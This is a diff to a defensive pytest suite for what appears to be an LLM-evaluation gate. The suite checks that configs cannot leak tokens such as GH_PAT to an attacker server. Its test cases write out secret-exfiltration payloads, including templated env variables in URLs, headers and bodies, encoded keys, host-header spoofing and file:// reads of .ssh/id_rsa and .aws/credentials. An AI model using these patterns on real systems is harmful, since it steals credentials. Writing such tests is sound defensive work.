@@ -37,6 +37,8 @@ def github(monkeypatch, llm: FakeLlm):
     monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request")
     monkeypatch.setenv("OPENAI_API_KEY", KEY)
     monkeypatch.setenv("OPENAI_BASE_URL", llm.base)
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-canary-5566778899")
+    monkeypatch.setenv("TOWN", "town-canary")
     monkeypatch.setenv("GH_PAT", PAT)
     monkeypatch.setenv("DATABASE_URL", "postgres://u:pw-canary@db/x")
     for name, value in RUNNER.items():
@@ -78,37 +80,25 @@ ELSEWHERE = {
     "base": lambda url: config(openai(apiBaseUrl=url)),
     "env": lambda url: config("openai:chat:m", env={"OPENAI_BASE_URL": url}),
     "env of provider": lambda url: config({"id": "openai:chat:m", "env": {"OPENAI_API_BASE_URL": url}}),
-    "header": lambda url: config(openai(apiKey="own", apiBaseUrl=url, headers={"X": "{{env.OPENAI_API_KEY}}"})),
+    "header": lambda url: config(openai(apiKey="own", apiBaseUrl=url, headers={"X": "{{env.GH_PAT}}"})),
     "key by template": lambda url: config(openai(apiKey="{{ env.GH_PAT }}", apiBaseUrl=url)),
     "key by index": lambda url: config(openai(apiKey="{{ env['GH_PAT'] }}", apiBaseUrl=url)),
     "key by name": lambda url: config(openai(apiKeyEnvar="GH_PAT", apiBaseUrl=url)),
-    "another's key": lambda url: config(openai(apiKeyEnvar="GH_PAT")),
+    "another's key": lambda url: config(openai(apiKeyEnvar="ANTHROPIC_API_KEY")),
     "literal that shows it": lambda url: config(
         {"id": "openai:chat:m", "env": {"K": "{{env.GH_PAT}}"}, "config": {"apiKeyEnvar": "K", "apiBaseUrl": url}}
     ),
-    "http url": lambda url: config({"id": f"{url}/{{{{prompt}}}}/{{{{env.GH_PAT}}}}", "config": {"method": "GET"}}),
-    "text with a key": lambda url: config(f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"),
-    "text with letters of a key": lambda url: config(f"{url}/{{{{env['GH_PAT'].slice(3) | upper}}}}?q={{{{prompt}}}}"),
-    "grader as a text": lambda url: config(
-        "openai:chat:m",
-        test={"assert": [{"type": "llm-rubric", "value": "x", "provider": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}]},
-    ),
-    "model of a metric": lambda url: config(
-        "openai:chat:m",
-        test={"assert": [{"type": "faithfulness", "config": {"model": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}}]},
-    ),
     "literal of the config": lambda url: config(openai(apiKeyEnvar="K", apiBaseUrl=url), env={"K": "{{env.GH_PAT}}"}),
     "http header": lambda url: config(
-        {"id": url, "config": {"body": {"p": "{{prompt}}"}, "headers": {"A": "{{ env.OPENAI_API_KEY }}"}}}
+        {"id": url, "config": {"body": {"p": "{{prompt}}"}, "headers": {"A": "{{ env.GH_PAT }}"}}}
     ),
     "host header": lambda url: config(openai(headers={"hOST": host_of(url)})),
     "host header of http": lambda url: config(
-        {"id": "{{env.OPENAI_BASE_URL}}/{{env.OPENAI_API_KEY}}",
-         "config": {"body": {"p": "{{prompt}}"}, "headers": {"Host": host_of(url)}}}
+        {"id": "{{env.OPENAI_BASE_URL}}", "config": {"body": {"p": "{{prompt}}"}, "headers": {"Host": host_of(url)}}}
     ),
-    "http body": lambda url: config({"id": url, "config": {"body": {"p": "{{prompt}}{{env.DATABASE_URL}}"}}}),
-    "provider id": lambda url: config({"id": "openai:chat:{{env.GH_PAT}}", "config": {"apiBaseUrl": url, "apiKey": "x"}}),
-    "passthrough": lambda url: config(openai(apiKey="x", apiBaseUrl=url, passthrough={"user": "{{env.GH_PAT}}"})),
+    "http body": lambda url: config({"id": url, "config": {"body": {"p": "{{prompt}}{{env.TOWN}}"}}}),
+    "provider id": lambda url: config({"id": "openai:chat:{{env.TOWN}}", "config": {"apiBaseUrl": url, "apiKey": "x"}}),
+    "passthrough": lambda url: config(openai(apiKey="x", apiBaseUrl=url, passthrough={"user": "{{env.TOWN}}"})),
     "target of a test": lambda url: config("openai:chat:m", test={"provider": openai(apiBaseUrl=url)}),
     "grader of a member": lambda url: config(
         "openai:chat:m",
@@ -124,6 +114,29 @@ ELSEWHERE = {
     "grader": lambda url: config("openai:chat:m", defaultTest={"options": {"provider": openai(apiBaseUrl=url)}},
                                  test={"assert": [{"type": "llm-rubric", "value": "x"}]}),
 }  # fmt: skip
+
+
+IN_ADDRESSES = {
+    "http url": lambda url: config({"id": f"{url}/{{{{prompt}}}}/{{{{env.GH_PAT}}}}", "config": {"method": "GET"}}),
+    "text with a key": lambda url: config(f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"),
+    "text with letters of a key": lambda url: config(f"{url}/{{{{env['GH_PAT'] | upper}}}}?q={{{{prompt}}}}"),
+    "grader as a text": lambda url: config(
+        "openai:chat:m",
+        test={"assert": [{"type": "llm-rubric", "value": "x", "provider": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}]},
+    ),
+    "model of a metric": lambda url: config(
+        "openai:chat:m",
+        test={"assert": [{"type": "faithfulness", "config": {"model": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}}]},
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", IN_ADDRESSES)
+def test_no_address_holds_a_credential_even_where_the_host_may_have_it(gate, llm, evil, github, way):
+    ran = gate(IN_ADDRESSES[way](evil.base), *REPORTS, "--allowed-hosts", f"127.0.0.1:{evil.port}")
+    assert (ran.code, evil.requests) == (2, [])
+    assert "would send GH_PAT in `id`: a credential leaves in headers alone" in ran.err
+    assert CANARY not in everything(ran)
 
 
 @pytest.mark.parametrize("way", ELSEWHERE)
@@ -144,9 +157,7 @@ def test_the_workflow_allows_a_host(gate, llm, evil, github, way, form):
     assert CANARY not in everything(ran)
 
 
-@pytest.mark.parametrize(
-    "name", ["gateway.a\u00dfets.localhost", "gateway%2eassets.localhost", "gateway.assets.localhost.."]
-)
+@pytest.mark.parametrize("name", ["gateway.a\u00dfets.localhost", "gateway%2eassets.localhost", "gateway.assets.localhost.."])
 def test_no_key_goes_to_a_host_that_only_looks_like_one_that_is_allowed(gate, llm, github, name):
     target = openai(apiBaseUrl=f"http://{name}/v1")
     ran = gate(config(target), "--allowed-hosts", "gateway.assets.localhost")
@@ -156,13 +167,10 @@ def test_no_key_goes_to_a_host_that_only_looks_like_one_that_is_allowed(gate, ll
 
 def test_a_host_header_that_a_test_fills_in_leads_no_key_elsewhere(gate, llm, github):
     headers = {"Host": "{{x}}"}
-    target = {
-        "id": llm.base,
-        "config": {"body": {"p": "{{prompt}}", "k": "{{env.OPENAI_API_KEY}}"}, "headers": headers},
-    }
-    ran = gate(config(target))
+    target = {"id": llm.base, "config": {"body": {"p": "{{prompt}}"}, "headers": {"X-Auth": "{{env.GH_PAT}}", **headers}}}
+    ran = gate(config(target), "--allowed-hosts", host_of(llm.base))
     assert (ran.code, llm.requests) == (2, [])
-    assert "would send OPENAI_API_KEY to {{x}}" in ran.err
+    assert "would send GH_PAT to {{x}}" in ran.err
 
 
 def test_no_config_says_where_a_request_ends(gate, llm, github):
@@ -218,17 +226,13 @@ def test_what_is_the_runners_own_is_read_by_no_config(gate, llm, evil, github, n
         lambda text: config("openai:chat:m", test={"options": {"prefix": text}}),
     ],
 )
-@pytest.mark.parametrize(
-    "text", ["{{env.GH_PAT}}", "{{ env | dump }}", "{{ env['GH' + '_PAT'] }}", "{% for k in env %}{{k}}{% endfor %}"]
-)
+@pytest.mark.parametrize("text", ["{{env.GH_PAT}}", "{{ env | dump }}", "{{ env['GH' + '_PAT'] }}", "{% for k in env %}{{k}}{% endfor %}"])
 def test_texts_outside_a_providers_config_show_no_variable_that_is_closed(gate, llm, github, edit, text):
     ran = gate(edit(text), "-g", "openai:chat:m", *REPORTS)
     assert CANARY not in json.dumps([body for _, body, _ in llm.requests]) + everything(ran)
     if "env.GH_PAT" in text and not {"metric", "y"} & set(json.dumps(edit(text)).split('"')):
         assert ran.code == 2
-        assert (
-            "GH_PAT, which only a provider's config may -> allow it in the workflow: `allowed-env: GH_PAT`" in ran.err
-        )
+        assert "GH_PAT, which only a provider's config may -> allow it in the workflow: `allowed-env: GH_PAT`" in ran.err
 
 
 def test_the_workflow_opens_a_variable(gate, llm, github, monkeypatch):
@@ -239,9 +243,7 @@ def test_the_workflow_opens_a_variable(gate, llm, github, monkeypatch):
     assert (ran.code, "`GITHUB_TOKEN` in `allowed-env` is the runner" in ran.err) == (2, True)
 
 
-@pytest.mark.parametrize(
-    "form", ["{}", "http://[{}/?q={{{{prompt}}}}", "http://127.0.0.1:{}/?q={{{{prompt}}}}", "http://{}.x/"]
-)
+@pytest.mark.parametrize("form", ["{}", "http://[{}/?q={{{{prompt}}}}", "http://127.0.0.1:{}/?q={{{{prompt}}}}", "http://{}.x/"])
 @pytest.mark.parametrize("command", ["run", "validate"])
 def test_no_mistake_quotes_what_an_address_shows(github, monkeypatch, tmp_path, capsys, form, command):
     monkeypatch.setenv("WEIRD", "odd-canary-value")
@@ -252,13 +254,7 @@ def test_no_mistake_quotes_what_an_address_shows(github, monkeypatch, tmp_path, 
 
 
 def test_a_key_that_a_target_tells_goes_to_no_graders_host_however_it_is_written(gate, llm, evil, github):
-    forms = [
-        KEY,
-        KEY.encode().hex(),
-        base64.b64encode(KEY.encode()).decode(),
-        "\u200b".join(KEY),
-        quote(KEY).replace("-", "%2d"),
-    ]
+    forms = [KEY, KEY.encode().hex(), base64.b64encode(KEY.encode()).decode(), "\u200b".join(KEY), quote(KEY).replace("-", "%2d")]
     for form in forms:
         llm.reply = lambda path, body, form=form: f"the key is {form}"
         grader = openai(apiKey="own", apiBaseUrl=evil.base)
@@ -306,9 +302,7 @@ def test_addresses_that_are_not_asked(gate, github, url, way):
 
 
 def test_a_name_that_leads_to_a_closed_address_is_not_asked(gate, llm, github, monkeypatch):
-    monkeypatch.setattr(
-        "gradegate.access.egress.is_private", lambda address: True
-    )  # as if loopback were inside a network
+    monkeypatch.setattr("gradegate.access.egress.is_private", lambda address: True)  # as if loopback were inside a network
     ran = gate(config({"id": f"http://localhost:{llm.port}/v1", "config": {"body": {"p": "{{prompt}}"}}}))
     assert (ran.code, llm.requests) == (2, [])
     assert "localhost is not asked: it is an address inside a private network" in ran.out
@@ -321,9 +315,7 @@ def test_a_test_cannot_turn_a_host_into_another(gate, llm, github):
     assert "turn 127.0.0.1 into another host" in ran.out
 
 
-@pytest.mark.parametrize(
-    "folder", [".git/config", ".npmrc", ".netrc", ".aws/credentials", ".ssh/id_rsa", ".env", ".docker/config.json"]
-)
+@pytest.mark.parametrize("folder", [".git/config", ".npmrc", ".netrc", ".aws/credentials", ".ssh/id_rsa", ".env", ".docker/config.json"])
 def test_files_with_credentials_are_not_read(gate, llm, github, folder):
     ran = gate(config("openai:chat:m", test={"vars": {"x": f"file://{folder}"}}), **{folder: "token-canary"})
     assert (ran.code, llm.requests) == (2, [])
